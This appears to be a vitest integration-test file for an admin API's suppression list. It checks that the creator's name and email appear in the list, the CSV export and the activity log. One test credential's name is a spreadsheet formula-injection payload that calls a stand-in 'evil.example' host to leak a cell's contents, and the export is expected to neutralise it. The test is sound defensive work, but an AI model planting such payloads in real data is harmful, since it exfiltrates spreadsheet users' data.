import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_COLUMNS } from '#app/export-suppressions';
import { type AdminApi, call, startAdminApi } from '../support/admin-api';
import { uniqueTenant } from '../support/repositories';

let api: AdminApi;

beforeAll(async () => {
  api = await startAdminApi();
});

afterAll(async () => {
  await api?.close();
});

const ADDED_BY = EXPORT_COLUMNS.indexOf('added_by');

/** The export's rows by value: value → added_by cell. */
const exportedAddedBy = async (token: string): Promise<Record<string, string>> => {
  const response = await call(api, token, 'GET', '/v1/suppressions/export');
  expect(response.status).toBe(200);
  const [, ...rows] = parse(await response.text()) as string[][];
  return Object.fromEntries(rows.map((row) => [row[0] as string, row[ADDED_BY] as string]));
};

const itemOf = async (token: string, value: string) => {
  const { items } = await (
    await call(api, token, 'GET', `/v1/suppressions?q=${encodeURIComponent(value)}`)
  ).json();
  return items.find((item: { normalizedValue: string }) => item.normalizedValue === value);
};

describe('addedBy shows a person', () => {
  const tenant = uniqueTenant();
  let maria: string;
  let crm: string;
  let plain: string;
  let crafted: string;

  beforeAll(async () => {
    maria = await api.credential(tenant, 'manager', {
      user: 'maria',
      name: 'Maria Silva',
      email: 'maria@example.com',
    });
    crm = await api.credential(tenant, 'manager', { user: 'crm-client', type: 'service', name: 'CRM sync' });
    plain = await api.credential(tenant, 'manager', { user: 'u-plain' });
    crafted = await api.credential(tenant, 'manager', {
      user: 'u-evil',
      name: '=HYPERLINK("http://evil.example/?"&A2,"x")',
    });
    for (const [token, value] of [
      [maria, 'lea@people.example'],
      [crm, 'sam@people.example'],
      [plain, 'kim@people.example'],
      [crafted, 'eve@people.example'],
    ] as const) {
      expect((await call(api, token, 'POST', '/v1/suppressions', { values: [value] })).status).toBe(200);
    }
  });

  it('in the list: the id stays addedBy, the credential’s name and email beside it, per source too', async () => {
    const lea = await itemOf(maria, 'lea@people.example');
    expect(lea).toMatchObject({
      source: 'admin',
      addedBy: 'maria',
      addedByName: 'Maria Silva',
      addedByEmail: 'maria@example.com',
    });
    expect(lea.sources[0]).toMatchObject({
      addedBy: 'maria',
      addedByName: 'Maria Silva',
      addedByEmail: 'maria@example.com',
    });
    const sam = await itemOf(maria, 'sam@people.example');
    expect(sam).toMatchObject({ source: 'api', addedBy: 'crm-client', addedByName: 'CRM sync' });
    expect(sam).not.toHaveProperty('addedByEmail');
    // A credential without the claims: nothing invented.
    const kim = await itemOf(maria, 'kim@people.example');
    expect(kim.addedBy).toBe('u-plain');
    expect(kim).not.toHaveProperty('addedByName');
    expect(kim).not.toHaveProperty('addedByEmail');
  });

  it('filters by the id, as before', async () => {
    const { items } = await (await call(api, maria, 'GET', '/v1/suppressions?addedBy=maria')).json();
    expect(items.map((item: { normalizedValue: string }) => item.normalizedValue)).toEqual([
      'lea@people.example',
    ]);
  });

  it('in the export: the person and the id in the added_by column, formula-safe', async () => {
    expect(await exportedAddedBy(maria)).toEqual({
      'lea@people.example': 'Maria Silva <maria@example.com> (maria)',
      'sam@people.example': 'CRM sync (crm-client)',
      'kim@people.example': 'u-plain',
      'eve@people.example': '\'=HYPERLINK("http://evil.example/?"&A2,"x") (u-evil)',
    });
  });

  it('in the activity log: the actor names the person', async () => {
    const response = await call(api, maria, 'POST', '/v1/contacts/crm-7/unsubscribe', {
      emails: ['ines@people.example'],
    });
    expect(response.status).toBe(200);
    const { items } = await (await call(api, maria, 'GET', '/v1/contacts/crm-7/activity')).json();
    expect(items[0]).toMatchObject({
      action: 'suppressed',
      source: 'admin',
      actor: { type: 'user', userId: 'maria', displayName: 'Maria Silva', email: 'maria@example.com' },
    });
  });
});
